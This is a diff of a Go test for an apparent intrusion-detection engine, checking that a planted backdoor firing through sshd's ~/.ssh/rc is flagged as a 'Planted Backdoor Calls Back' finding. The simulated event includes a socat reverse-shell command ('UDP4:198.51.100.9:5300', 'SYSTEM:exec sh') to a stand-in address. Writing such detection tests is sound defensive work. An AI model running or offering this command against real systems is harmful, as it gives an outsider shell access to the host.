@@ -129,8 +129,11 @@ func TestEncodedPlantNamesPeer(t *testing.T) {
 		t.Fatalf("the rc write: %v", ids(fs))
 	}
 	s.exec(30, 1, 0, "root", "/", "/usr/sbin/sshd", "sshd")
-	s.exec(40, 30, 33, "www-data", "/var/www", "/usr/bin/socat", "socat", "UDP4:198.51.100.9:5300", "SYSTEM:exec sh")
-	if fs := e.Observe(s.connect(40, 30, 33, "/usr/bin/socat", "198.51.100.9", 5300), s.tree); has(fs, "backdoor-callback") == nil {
-		t.Errorf("the decoded plant's address is not called back: %v", ids(fs))
+	// sshd runs ~/.ssh/rc in the account's login: the plant fired
+	rc := s.exec(40, 30, 33, "www-data", "/var/www", "/usr/bin/socat", "socat", "UDP4:198.51.100.9:5300", "SYSTEM:exec sh")
+	rc.Proc.AUID, rc.Proc.SES = parser.NewID(33), parser.NewID(9)
+	fs = e.Observe(s.connect(40, 30, 33, "/usr/bin/socat", "198.51.100.9", 5300), s.tree)
+	if f := has(fs, "backdoor-callback"); f == nil || f.Title != "Planted Backdoor Calls Back" {
+		t.Errorf("the decoded plant's address is not called back by the fired plant: %v", fs)
 	}
 }
